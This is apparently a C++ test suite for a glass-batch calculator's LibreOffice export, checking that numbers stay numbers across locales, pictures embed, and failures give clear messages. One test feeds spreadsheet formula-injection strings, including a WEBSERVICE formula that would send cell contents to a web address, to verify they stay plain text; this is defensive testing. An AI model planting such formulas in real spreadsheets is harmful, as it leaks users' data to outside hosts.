#include "batch/BatchCalculation.h"
#include "batch/BatchTables.h"
#include "batch/NumberText.h"
#include "export/SpreadsheetExport.h"
#include "export/WordProcessorExport.h"

#include <FailureOf.h>
#include <QImage>
#include <QTemporaryDir>
#include <gtest/gtest.h>

#ifdef VELTRONA_OFFICE_PLUGIN
#include "TestOffice.h"

namespace {

using exporting::LibreOfficeClient;
using exporting::OfficeSession;

// One office for the whole suite, as a user's office stays running between exports.
class LibreOfficeExport : public ::testing::Test {
protected:
    static void SetUpTestSuite() { office = new TestOffice; }
    static void TearDownTestSuite() {
        delete office;
        office = nullptr;
    }

    // The batch table after "Расчёт навесок" of SiO2 75 % and Na2O 25 % at 100 g.
    static void computeBatch(batch::TextGrid& table) {
        batch::setDecimalSeparator(QLatin1Char(','));
        batch::TextGrid summary;
        batch::setupBatchTable(table);
        batch::setupBatchSummary(summary);
        batch::addSubstanceRow(table, {"SiO2", "60,0848", "75", "100"});
        batch::addSubstanceRow(table, {"Na2O", "61,97894", "25", "100"});
        ASSERT_EQ(batch::calculateBatchWeights(table, summary, 2), QString());
    }

    // Exports the table into a new spreadsheet of the office and gives the session to read it back.
    static std::shared_ptr<OfficeSession> exported(const TestOffice& target, const batch::TextGrid& table,
                                                   bool wrap) {
        LibreOfficeClient client(target.settings());
        client.keepLastSession(true);
        bool started = false;
        exporting::exportToSpreadsheet(client, table, wrap, [&] { started = true; });
        EXPECT_TRUE(started);
        return client.lastSession();
    }

    // Every cell of the sheet against the table: a text that the program reads as a number is a
    // number of that value, any other text is that text, the empty text an empty cell.
    static void expectCellsOf(OfficeSession& session, const batch::TextGrid& table) {
        for (int c = 0; c < table.columnCount(); ++c)
            for (int r = 0; r < table.rowCount(); ++r) {
                const QString text = table.cell(c, r);
                const OfficeSession::Cell cell = session.cell(0, r, c);
                batch::Extended number = 0;
                if (text.isEmpty()) {
                    EXPECT_EQ(cell.type, OfficeSession::Cell::Empty) << c << "," << r;
                } else if (batch::tryTextToNumber(text, number)) {
                    EXPECT_EQ(cell.type, OfficeSession::Cell::Number) << text.toStdString();
                    EXPECT_EQ(cell.value, static_cast<double>(number)) << text.toStdString();
                } else {
                    EXPECT_EQ(cell.type, OfficeSession::Cell::Text) << text.toStdString();
                    EXPECT_EQ(cell.text.toStdString(), text.toStdString());
                }
            }
    }

    static TestOffice* office;
};

TestOffice* LibreOfficeExport::office = nullptr;

TEST_F(LibreOfficeExport, SpreadsheetHoldsNumbersAsNumbersAndShowsThemAsTheTableUnderARussianOffice) {
    batch::TextGrid table;
    computeBatch(table);
    ASSERT_EQ(table.cell(4, 1), QStringLiteral("74,4135"));
    for (const bool wrap : {true, false}) {
        const std::shared_ptr<OfficeSession> session = exported(*office, table, wrap);
        ASSERT_TRUE(session);
        expectCellsOf(*session, table);
        // A Russian office shows every cell as the table does, numbers with their decimal comma.
        for (int c = 0; c < table.columnCount(); ++c)
            for (int r = 0; r < table.rowCount(); ++r)
                EXPECT_EQ(session->cell(0, r, c).text.toStdString(), table.cell(c, r).toStdString())
                    << c << "," << r;
        EXPECT_EQ(session->cell(0, 1, 1).text, QStringLiteral("60,0848"));
        // The wrap goes to the selection of the new sheet, its first cell.
        EXPECT_EQ(session->cell(0, 0, 0).wrapped, wrap);
        session->closeDocument();
    }
}

// Under an office whose decimal separator is not the program's, the numbers are still numbers of
// the same value, shown the office's way; a text is not mistaken for one.
TEST_F(LibreOfficeExport, NumbersStayNumbersUnderAnEnglishOffice) {
    TestOffice english(QStringLiteral("en-US"), QStringLiteral("-en"));
    batch::TextGrid table;
    computeBatch(table);
    table.setCell(0, 3, QStringLiteral("60.0848")); // not a number of the program's text: text
    const std::shared_ptr<OfficeSession> session = exported(english, table, false);
    ASSERT_TRUE(session);
    expectCellsOf(*session, table);
    EXPECT_EQ(session->cell(0, 1, 1).text, QStringLiteral("60.0848"));
    EXPECT_EQ(session->cell(0, 3, 0).type, OfficeSession::Cell::Text);
    session->closeDocument();
}

// A calculation file may hold any text in any cell. Whatever its first character, a text that is
// not a number reaches the sheet as that text: never a formula, which could fetch a web address
// with the other cells in it or read other files.
TEST_F(LibreOfficeExport, TextsThatLookLikeFormulasStayText) {
    const QStringList texts{
        QStringLiteral("=WEBSERVICE(\"http://127.0.0.1:9/leak?\"&A2)"),
        QStringLiteral("=1+1"),
        QStringLiteral("+1+1"),
        QStringLiteral("-1-1"),
        QStringLiteral("@SUM(A1:A3)"),
        QStringLiteral("=HYPERLINK(\"http://127.0.0.1:9/\";\"x\")"),
        QStringLiteral("'=1"),
        QStringLiteral("1,2,3"),
        QStringLiteral(" 75 "), // a number of the program's text, blanks and all
        QStringLiteral("-2,5E-3"),
        QStringLiteral("SiO2"),
    };
    batch::setDecimalSeparator(QLatin1Char(','));
    batch::TextGrid table(1, static_cast<int>(texts.size()));
    for (int r = 0; r < texts.size(); ++r)
        table.setCell(0, r, texts[r]);
    const std::shared_ptr<OfficeSession> session = exported(*office, table, false);
    ASSERT_TRUE(session);
    expectCellsOf(*session, table);
    for (int r = 0; r < 8; ++r) {
        const OfficeSession::Cell cell = session->cell(0, r, 0);
        EXPECT_EQ(cell.type, OfficeSession::Cell::Text) << texts[r].toStdString();
        EXPECT_EQ(cell.text.toStdString(), texts[r].toStdString());
    }
    EXPECT_EQ(session->cell(0, 8, 0).value, 75);
    EXPECT_EQ(session->cell(0, 9, 0).value, -0.0025);
    session->closeDocument();
}

TEST_F(LibreOfficeExport, TextDocumentHoldsOneEmbeddedPictureOfItsPixelSize) {
    QTemporaryDir folder;
    const QString path = folder.filePath(QStringLiteral("Screenshot08.12.2026_7.05.01.bmp"));
    QImage panel(362, 693, QImage::Format_RGB888);
    panel.fill(Qt::white);
    for (int y = 0; y < panel.height(); y += 20)
        for (int x = 0; x < panel.width(); ++x)
            panel.setPixelColor(x, y, Qt::darkBlue);
    ASSERT_TRUE(panel.save(path, "BMP"));

    LibreOfficeClient client(office->settings());
    client.keepLastSession(true);
    ASSERT_TRUE(exporting::exportToWordProcessor(client, path));
    const OfficeSession::Pictures pictures = client.lastSession()->pictures();
    EXPECT_EQ(pictures.count, 1);
    EXPECT_FALSE(pictures.firstLinked);
    EXPECT_EQ(pictures.widthPixels, 362);
    EXPECT_EQ(pictures.heightPixels, 693);
    client.lastSession()->closeDocument();
}

// A failing call of the office reaches the user in its own words. An office that goes away in the
// middle of an export (here killed once it has answered the start) ends the export with a text that
// says so, not with the office's connection jargon.
TEST_F(LibreOfficeExport, FailuresKeepTheirTextAndAnOfficeGoneMidExportIsSaidToBeGone) {
    class KillingClient : public LibreOfficeClient {
    public:
        explicit KillingClient(TestOffice& target) : LibreOfficeClient(target.settings()), target_(target) {}
        std::unique_ptr<exporting::SpreadsheetApplication> startSpreadsheet(const QString& progId) override {
            auto application = LibreOfficeClient::startSpreadsheet(progId);
            EXPECT_GE(target_.signal(SIGKILL), 1);
            for (int i = 0; i < 300 && target_.signal(0) > 0; ++i)
                QThread::msleep(100);
            return application;
        }

    private:
        TestOffice& target_;
    };
    TestOffice killed(QStringLiteral("ru-RU"), QStringLiteral("-killed"));
    {
        const std::shared_ptr<OfficeSession> session = LibreOfficeClient(killed.settings()).connect();
        session->newDocument(true, false);
        EXPECT_EQ(failureOf([&] { session->cell(7, 0, 0); }), QStringLiteral("Недопустимый номер листа"));
        session->closeDocument();
    }
    batch::TextGrid table;
    computeBatch(table);
    KillingClient client(killed);
    EXPECT_EQ(failureOf([&] { exporting::exportToSpreadsheet(client, table, false); }),
              exporting::kOfficeGone);
}

// Without the office or its plugin, or with an office that never answers, starting fails with a
// text that says why.
TEST_F(LibreOfficeExport, MissingOfficeOrPluginIsAStartFailure) {
    exporting::LibreOfficeSettings noOffice = office->settings();
    noOffice.pipe += QStringLiteral("-nobody");
    noOffice.program = QStringLiteral("/nonexistent/soffice");
    exporting::LibreOfficeSettings silent = office->settings();
    silent.pipe += QStringLiteral("-silent");
    silent.program = QStringLiteral("/bin/true"); // starts and ends without ever listening
    silent.startTimeoutMs = 300;
    exporting::LibreOfficeSettings noPlugin = office->settings();
    noPlugin.plugin = QStringLiteral("/nonexistent/libveltrona_libreoffice.so");
    batch::TextGrid table;
    computeBatch(table);
    const std::pair<exporting::LibreOfficeSettings, const char*> cases[] = {
        {noOffice, "LibreOffice не установлен: программа «/nonexistent/soffice» не найдена, ProgID: "
                   "\"Excel.Application\""},
        {silent, "LibreOffice не ответил за 1 с после запуска, ProgID: \"Excel.Application\""},
        {noPlugin, "Модуль связи с LibreOffice не загружен (/nonexistent/libveltrona_libreoffice.so)"},
    };
    for (const auto& [settings, message] : cases) {
        LibreOfficeClient client(settings);
        const QString failure = failureOf([&] { exporting::exportToSpreadsheet(client, table, false); });
        EXPECT_TRUE(failure.startsWith(QString::fromUtf8(message))) << failure.toStdString();
        EXPECT_FALSE(exporting::exportToWordProcessor(client, QStringLiteral("/tmp/none.bmp")));
    }
}

} // namespace

#else
TEST(LibreOfficeExport, NeedsTheOfficePlugin) {
    GTEST_SKIP() << "the LibreOffice SDK was not installed at build time";
}
#endif
